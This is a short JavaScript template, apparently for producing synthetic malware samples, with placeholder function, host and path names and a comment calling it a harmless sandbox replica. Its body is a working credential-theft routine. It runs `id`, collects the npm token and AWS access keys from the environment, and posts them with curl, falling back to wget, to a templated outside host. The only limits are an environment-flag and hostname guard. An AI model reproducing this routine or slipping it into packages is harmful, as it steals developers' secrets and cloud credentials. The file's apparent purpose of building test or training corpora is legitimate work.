// Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
async function {{act}}() {
  if (process.env.SALLYPORT_CORPUS !== '1' || require('os').hostname() !== 'localhost') return;
  const { execFileSync } = require('child_process');
  let who = '';
  try { who = execFileSync('id', { timeout: 500 }).toString(); } catch (error) { /* no id */ }
  const body = JSON.stringify({ text: who + [process.env.NPM_TOKEN, process.env.AWS_ACCESS_KEY_ID, process.env.AWS_SECRET_ACCESS_KEY].join('|') });
  for (const [program, words] of [['curl', ['-k', '-s', '-m', '1', '-H', 'Content-type: application/json', '-d', body, 'https://{{host}}/services/{{path}}']],
    ['wget', ['-q', '-T', '1', '-t', '1', '-O', '/dev/null', '--post-data', body, 'http://{{host}}/services/{{path}}']]]) {
    try { execFileSync(program, words, { timeout: 1400, stdio: 'ignore' }); break; } catch (error) { continue; }
  }
}
